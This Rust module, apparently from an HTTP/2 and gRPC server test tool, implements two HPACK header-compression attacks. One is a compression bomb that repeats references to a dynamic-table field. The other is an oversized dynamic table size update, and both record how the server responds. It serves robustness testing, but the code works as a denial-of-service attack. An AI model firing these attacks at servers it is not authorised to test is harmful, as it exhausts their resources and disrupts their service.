//! Attacks on HPACK, the header compression: small on the wire, large (or
//! invalid) once decoded.
//!
//! - [`hpack_bomb`]: one field put into the dynamic table, then thousands
//!   of 1-byte references to it. A few KiB on the wire decode to hundreds
//!   of KiB of headers; h2 stops decoding past twice its header list limit
//!   (GOAWAY ENHANCE_YOUR_CALM `header_list_way_too_large`), or refuses the
//!   stream when the list is over the limit but not that far over.
//! - [`table_size_update`]: a dynamic table size update above what the
//!   server advertised (4096): a decoder that obeyed would let the client
//!   make it hold up to 4 GiB of table. It must be a connection error.

use std::time::Duration;

use crate::answer::Answer;
use crate::conn::Conn;
use crate::frame;
use crate::grpc::Request;
use crate::hpack::{Block, NEWEST_DYNAMIC};

/// An HPACK bomb.
#[derive(Clone, Debug)]
pub struct HpackBomb {
    /// References to the indexed field.
    pub references: usize,
    /// Length of the indexed field's value.
    pub value_len: usize,
    /// The call the block makes.
    pub request: Request,
    /// How long to wait for the server's SETTINGS and its answer.
    pub within: Duration,
}

impl Default for HpackBomb {
    /// 4000 references to a 1-byte value: 4 KiB on the wire, 156 KiB
    /// decoded (each field counts 32 bytes more, as HPACK sizes them).
    fn default() -> HpackBomb {
        HpackBomb {
            references: 4000,
            value_len: 1,
            request: Request::default(),
            within: crate::ANSWER_WITHIN,
        }
    }
}

/// What an HPACK bomb achieved.
#[derive(Clone, Debug)]
pub struct BombReport {
    /// Header block bytes sent.
    pub block_bytes: usize,
    /// What the block decodes to, as HPACK counts header list size (name,
    /// value and 32 bytes a field).
    pub decoded_bytes: usize,
    /// What the server sent.
    pub answer: Answer,
}

/// Name of the bomb's field.
const BOMB_FIELD: &str = "x-bomb";

/// Sends the bomb as one complete request (END_HEADERS, END_STREAM) on
/// stream 1, in frames of 16 KiB, and waits for the server to answer the
/// stream or end the connection.
pub async fn hpack_bomb(conn: &mut Conn, attack: &HpackBomb) -> BombReport {
    let value = vec![b'b'; attack.value_len];
    let mut block = attack.request.block().literal_indexed(BOMB_FIELD, &value);
    for _ in 0..attack.references {
        block = block.indexed(NEWEST_DYNAMIC);
    }
    let field = BOMB_FIELD.len() + attack.value_len + 32;
    let mut report = BombReport {
        block_bytes: block.len(),
        decoded_bytes: field * (attack.references + 1),
        answer: Answer::default(),
    };
    if conn.start(&[], attack.within).await
        && conn
            .send(&frame::header_block(
                1,
                block.bytes(),
                16 * 1024,
                true,
                true,
            ))
            .await
    {
        conn.wait_until(attack.within, |answer| answer.stream_done(1))
            .await;
    }
    report.answer = conn.answer().clone();
    report
}

/// What a table size update achieved.
#[derive(Clone, Debug)]
pub struct TableSizeReport {
    /// The size asked for.
    pub size: u32,
    /// What the server sent.
    pub answer: Answer,
}

/// Starts the connection's first request with a dynamic table size update
/// to `size`, then waits for the server to answer the request or end the
/// connection.
pub async fn table_size_update(
    conn: &mut Conn,
    size: u32,
    request: &Request,
    within: Duration,
) -> TableSizeReport {
    let block = Block::new()
        .table_size_update(size)
        .raw(request.block().bytes());
    if conn.start(&[], within).await
        && conn
            .send(&frame::headers(1, block.bytes(), true, true))
            .await
    {
        conn.wait_until(within, |answer| answer.stream_done(1))
            .await;
    }
    TableSizeReport {
        size,
        answer: conn.answer().clone(),
    }
}
